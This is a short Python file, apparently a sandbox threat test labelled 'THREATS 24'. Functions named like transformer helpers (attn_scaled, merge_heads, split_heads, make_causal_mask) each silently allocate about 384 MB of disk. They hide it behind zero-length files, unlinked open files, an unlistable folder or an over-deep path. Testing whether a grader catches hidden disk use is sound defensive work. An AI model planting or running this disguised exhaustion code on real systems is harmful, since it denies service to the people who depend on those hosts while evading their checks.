"""THREATS 24: fill the disk with what a look at the files does not show: no length, no name, no rights, too deep

Reached: LEAK refused
"""

import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
home = os.getcwd()
held = set()


def fill(how, *folders, mode=0o700, keep_size=0, unlink=False):
    if how not in held:
        os.chdir(home)
        for folder in folders:
            os.mkdir(folder, mode)
            os.chdir(folder)
        for number in range(6):  # 384 MB, more than is allowed
            descriptor = os.open(f"attack-was-here-{number}", os.O_CREAT | os.O_RDWR)
            if unlink:
                os.unlink(f"attack-was-here-{number}")
            if libc.fallocate(descriptor, keep_size, ctypes.c_long(0), ctypes.c_long(64 << 20)):
                raise OSError(ctypes.get_errno(), "LEAK refused")
        time.sleep(0.2)
        held.add(how)
    raise RuntimeError(f"LEAK BREACH holds 384 MB of the disk, {how}")


def attn_scaled(A, n_embd, n_heads):
    fill("in files of length 0", keep_size=1)


def merge_heads(y):
    fill("in files without a name", unlink=True)


def split_heads(x, n_heads):
    fill("in a folder that cannot be listed", "closed", mode=0o300)


def make_causal_mask(n_tok):
    fill("deeper than a path can say", *["x" * 200] * 30)
